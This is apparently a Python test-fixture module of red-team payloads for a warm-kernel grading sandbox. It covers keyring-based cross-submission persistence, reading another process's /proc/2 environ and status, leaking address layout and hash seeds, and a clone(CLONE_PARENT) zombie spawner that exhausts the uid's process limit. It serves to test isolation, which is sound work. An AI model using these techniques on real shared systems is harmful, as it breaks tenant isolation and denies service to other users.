"""Red-team submissions against warm kernels (tests/test_grading_warm_redteam.py, report: warm_redteam.md).

`a-planter` runs first in a worker and leaves what outlives every namespace the child gets (the kernel's key
store: the leased uid's user keyring and the session keyring the child inherits from the template) and records
what it can read of the template (`/proc/2/*`); `b-victim` runs next in the same worker, is honest except that
it looks for what the planter left and prints what it sees of the previous kernels (the template's children
CPU time, its own pid, the hash seed).
"""

from __future__ import annotations

MARK = "warm-rt-9c1d"

_KEYS = r"""
import ctypes as _ct
_libc = _ct.CDLL(None, use_errno=True)
_SYS_add_key, _SYS_keyctl = 248, 250
_KEY_SPEC = {"session": -3, "user": -4, "user-session": -5}
def _keyctl_read(ring, name):
    kid = _libc.syscall(_SYS_keyctl, 10, _ct.c_int(_KEY_SPEC[ring]), b"user", name.encode(), 0)  # KEYCTL_SEARCH
    if kid < 0:
        return None
    buf = _ct.create_string_buffer(256)
    n = _libc.syscall(_SYS_keyctl, 11, kid, buf, 256)  # KEYCTL_READ
    return buf.raw[:n].decode(errors="replace") if n >= 0 else f"(id {kid}, unreadable)"
"""

PLANTER = (
    _KEYS
    + f'''
import os, hashlib, json
_planted = []
for _ring in ("session", "user", "user-session"):
    _data = ("{MARK}:" + _ring + ":" + ",".join(sorted(os.listdir(".")))).encode()
    if _libc.syscall(_SYS_add_key, b"user", ("{MARK}-" + _ring).encode(), _data, len(_data), _ct.c_int(_KEY_SPEC[_ring])) > 0:
        _planted.append(_ring)
def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read(400).decode(errors="replace").replace("\\0", " ")
    except OSError as exc:
        return "ERR " + str(exc.errno)
print("planted keys:", _planted)
print("template proc:", json.dumps({{f: _read("/proc/2/" + f) for f in ("cmdline", "stat", "status", "cgroup", "environ", "limits")}})[:3000])
print("planter pid:", os.getpid(), "hash:", hash("{MARK}"), "layout:", hex(id(None)), hex(_ct.cast(_libc.printf, _ct.c_void_p).value))
'''
)

VICTIM = (
    _KEYS
    + f'''
import os
_found = {{r: _keyctl_read(r, "{MARK}-" + r) for r in ("session", "user", "user-session")}}
print("victim found keys:", {{r: v for r, v in _found.items() if v}})
_stat = open("/proc/2/stat").read().rsplit(")", 1)[1].split()
print("template children cpu ticks (cutime, cstime):", _stat[13], _stat[14])
print("victim pid:", os.getpid(), "hash:", hash("{MARK}"), "layout:", hex(id(None)), hex(_ct.cast(_libc.printf, _ct.c_void_p).value))
'''
)

# A kernel's clone(CLONE_PARENT) makes the new process a child of the kernel's parent: the template (root, pid 2),
# which waits only for the kernel it forked. Killed with the sandbox (or exiting at once), such a process stays a
# zombie of the template for the template's whole life: owned by the leased uid, it counts against that uid's
# RLIMIT_NPROC, and the worker's reap(uid) sees it and cannot kill it.
ZOMBIES = """
import ctypes as _zc, os as _zo
_zl = _zc.CDLL(None, use_errno=True)
_made = 0
for _i in range({count}):
    _r = _zl.syscall(56, 0x8000 | 17, 0, 0, 0, 0)  # clone(CLONE_PARENT | SIGCHLD): a sibling, child of pid 2
    if _r == 0:  # the new process: named with a message for the next student, it exits at once (exit code: 42),
        _zl.prctl(15, b"{mark}", 0, 0, 0)  # a zombie the template never waits for; PR_SET_NAME
        _zl.syscall(231, 42)
    if _r < 0:
        break
    _made += 1
import time as _zt
_zt.sleep(0.5)
_z = [p for p in _zo.listdir("/proc") if p.isdigit() and open(f"/proc/{{p}}/stat").read().rsplit(")", 1)[1].split()[:2] == ["Z", "2"]]
print("zombies of the template:", len(_z), "made:", _made)
"""

# An honest student's notebook that uses a few threads (e.g. a thread pool to time something): it runs in a cold
# kernel and in a fresh warm one.
THREADS = """
import threading as _th
_ok = []
def _work():
    _ok.append(1)
_ts = []
try:
    for _i in range(16):
        _t = _th.Thread(target=_work); _t.start(); _ts.append(_t)
except RuntimeError as _exc:
    print("threads failed:", _exc)
for _t in _ts:
    _t.join()
print("threads ran:", len(_ok))
"""

TASKS = """
import os as _po
_z = [p for p in _po.listdir("/proc") if p.isdigit() and open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[0] == "Z"]
_names = sorted({open(f"/proc/{p}/comm").read().strip() for p in _z})
print("zombies seen:", len(_z), "named:", _names, "pid:", _po.getpid())
"""

# What differs between a warm and a cold kernel of the same student (no attack: a comparison).
COMPARE = """
import ctypes as _cc, os as _co
print("dumpable:", _cc.CDLL(None).prctl(3, 0, 0, 0, 0))
try:
    open("/dev/shm/x", "w").write("x"); print("dev/shm: writable")
except OSError as _e:
    print("dev/shm:", _e.strerror)
print("limits:", [l[:26].strip() + "=" + l[26:47].strip() for l in open("/proc/self/limits")][1:])
print("rw mounts:", sorted({l.split()[4] for l in open("/proc/self/mountinfo") if "rw" in l.split()[5].split(",")}))
print("fds:", sorted(_co.listdir("/proc/self/fd"), key=int)[:12])
"""

# An honest answer that computes in a worker thread (the reference's softmax, called from a one-thread pool): full
# marks in a cold kernel (the scan flags the thread, the score stands).
THREADED = """
import concurrent.futures as _cf
_plain_softmax = softmax
def softmax(*args, **kwargs):
    with _cf.ThreadPoolExecutor(1) as _pool:
        return _pool.submit(_plain_softmax, *args, **kwargs).result()
"""
